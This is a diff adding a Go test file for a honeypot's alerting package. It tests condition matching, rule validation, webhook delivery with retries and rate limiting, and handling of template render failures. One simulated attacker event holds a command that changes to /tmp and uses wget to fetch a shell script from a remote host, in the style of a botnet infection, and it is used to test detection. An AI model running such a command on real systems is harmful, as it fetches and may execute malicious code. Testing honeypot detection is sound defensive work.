@@ -0,0 +1,171 @@
+package alerts
+
+import (
+	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/riotpot/pkg/alerts"
+	"github.com/riotpot/pkg/events"
+	"github.com/riotpot/pkg/signatures"
+	"github.com/stretchr/testify/assert"
+)
+
+// Webhook that keeps the payloads received and fails the first requests
+type webhook struct {
+	mu       sync.Mutex
+	payloads []map[string]interface{}
+	failures atomic.Int32
+}
+
+func (w *webhook) ServeHTTP(rw http.ResponseWriter, req *http.Request) {
+	if w.failures.Add(-1) >= 0 {
+		rw.WriteHeader(http.StatusServiceUnavailable)
+		return
+	}
+
+	body, _ := io.ReadAll(req.Body)
+	var payload map[string]interface{}
+	json.Unmarshal(body, &payload)
+
+	w.mu.Lock()
+	w.payloads = append(w.payloads, payload)
+	w.mu.Unlock()
+}
+
+func (w *webhook) received() []map[string]interface{} {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+
+	return append([]map[string]interface{}{}, w.payloads...)
+}
+
+func condition(t *testing.T, field string, operator alerts.Operator, value string) *alerts.Condition {
+	c, err := alerts.NewCondition(field, operator, value)
+	assert.NoError(t, err)
+	return c
+}
+
+func TestConditions(t *testing.T) {
+	login := events.NewEvent(events.AuthEvent, "Telnet", "203.0.113.7:4000").With("user", "root").With("success", true)
+	write := events.NewEvent(events.CommandEvent, "Modbus", "203.0.113.7:4001").With("command", "write_single_register").With("function_code", 6)
+	wget := events.NewEvent(events.CommandEvent, "Telnet", "203.0.113.7:4002").With("command", "cd /tmp; wget http://198.51.100.1/x.sh")
+
+	assert.True(t, condition(t, "service", alerts.EqualOperator, "telnet").Match(login))
+	assert.True(t, condition(t, "success", alerts.EqualOperator, "true").Match(login))
+	assert.False(t, condition(t, "success", alerts.EqualOperator, "true").Match(wget))
+	assert.True(t, condition(t, "type", alerts.NotEqualOperator, "auth").Match(write))
+	assert.True(t, condition(t, "function_code", alerts.MatchesOperator, "^(6|16)$").Match(write))
+	assert.True(t, condition(t, "command", alerts.ContainsOperator, "wget").Match(wget))
+	assert.False(t, condition(t, "command", alerts.ContainsOperator, "wget").Match(write))
+	assert.True(t, condition(t, "user", alerts.ExistsOperator, "").Match(login))
+	assert.False(t, condition(t, "user", alerts.ExistsOperator, "").Match(wget))
+
+	// Families of the signatures matched by the command
+	mirai := signatures.Annotate(events.NewEvent(events.CommandEvent, "Telnet", "203.0.113.7:4003"), []signatures.Match{{Rule: "Mirai", Family: "Mirai"}})
+	assert.True(t, condition(t, "families", alerts.ContainsOperator, "Mirai").Match(mirai))
+	assert.True(t, condition(t, "tags", alerts.ContainsOperator, "mirai").Match(mirai))
+	assert.False(t, condition(t, "families", alerts.ExistsOperator, "").Match(wget))
+
+	_, err := alerts.NewCondition("command", alerts.MatchesOperator, "(")
+	assert.Error(t, err)
+	_, err = alerts.NewCondition("command", "like", "wget")
+	assert.Error(t, err)
+}
+
+func TestRuleValidation(t *testing.T) {
+	_, err := alerts.NewRule("invalid", nil, []string{"ftp://example.com"}, "", 0)
+	assert.Error(t, err)
+
+	_, err = alerts.NewRule("invalid", nil, []string{"http://example.com"}, `{"text": {{.Event.Source}}}`, 0)
+	assert.Error(t, err, "the template renders an unquoted string")
+
+	r, err := alerts.NewRule("valid", nil, []string{"http://example.com"}, `{"text": {{json .Event.Source}}}`, 0)
+	assert.NoError(t, err)
+	assert.NotEmpty(t, r.GetID())
+}
+
+func TestAlertDelivery(t *testing.T) {
+	hook := &webhook{}
+	hook.failures.Store(2)
+	server := httptest.NewServer(hook)
+	defer server.Close()
+
+	am := alerts.NewAlertManager()
+	am.Backoff = time.Millisecond
+
+	tmpl := `{"text": {{printf "Login to %s as %s" .Event.Service (field .Event "user") | json}}, "source": {{json .Event.Source}}}`
+	rule, err := alerts.NewRule("telnet-login", []*alerts.Condition{
+		condition(t, "type", alerts.EqualOperator, "auth"),
+		condition(t, "service", alerts.EqualOperator, "Telnet"),
+		condition(t, "success", alerts.EqualOperator, "true"),
+	}, []string{server.URL}, tmpl, 2)
+	assert.NoError(t, err)
+
+	_, err = am.AddRule(rule)
+	assert.NoError(t, err)
+
+	// Rules must have unique names
+	_, err = am.AddRule(rule)
+	assert.Error(t, err)
+
+	failed := events.NewEvent(events.AuthEvent, "Telnet", "203.0.113.7:4000").With("user", "root").With("success", false)
+	assert.NoError(t, am.Send(failed))
+
+	for i := 0; i < 3; i++ {
+		login := events.NewEvent(events.AuthEvent, "Telnet", "203.0.113.7:4000").With("user", "root").With("success", true)
+		assert.NoError(t, am.Send(login))
+	}
+
+	// The first alert is retried until the webhook accepts it, the third is rate limited
+	assert.Eventually(t, func() bool {
+		return rule.GetSent() == 2
+	}, 2*time.Second, 10*time.Millisecond)
+
+	assert.Equal(t, int64(3), rule.GetMatched())
+	assert.Equal(t, int64(1), rule.GetLimited())
+	assert.Equal(t, int64(0), rule.GetFailed())
+
+	payloads := hook.received()
+	assert.Len(t, payloads, 2)
+	assert.Equal(t, "Login to Telnet as root", payloads[0]["text"])
+	assert.Equal(t, "203.0.113.7:4000", payloads[0]["source"])
+
+	assert.NoError(t, am.DeleteRule(rule.GetID()))
+	assert.Empty(t, am.GetRules())
+}
+
+func TestRenderFailure(t *testing.T) {
+	hook := &webhook{}
+	server := httptest.NewServer(hook)
+	defer server.Close()
+
+	am := alerts.NewAlertManager()
+	auth := []*alerts.Condition{condition(t, "type", alerts.EqualOperator, "auth")}
+
+	// The user is not quoted, the payload is only valid JSON without one
+	broken, err := alerts.NewRule("broken", auth, []string{server.URL}, `{"user": {{with field .Event "user"}}{{.}}{{else}}null{{end}}}`, 0)
+	assert.NoError(t, err)
+	valid, err := alerts.NewRule("valid", auth, []string{server.URL}, "", 0)
+	assert.NoError(t, err)
+
+	for _, rule := range []*alerts.Rule{broken, valid} {
+		_, err = am.AddRule(rule)
+		assert.NoError(t, err)
+	}
+
+	// The rule that fails does not keep the next one from alerting
+	ev := events.NewEvent(events.AuthEvent, "Telnet", "203.0.113.7:4000").With("user", "root")
+	assert.NoError(t, am.Send(ev))
+
+	assert.Eventually(t, func() bool {
+		return valid.GetSent() == 1
+	}, 2*time.Second, 10*time.Millisecond)
+	assert.Equal(t, int64(1), broken.GetFailed())
+	assert.Len(t, hook.received(), 1)
+}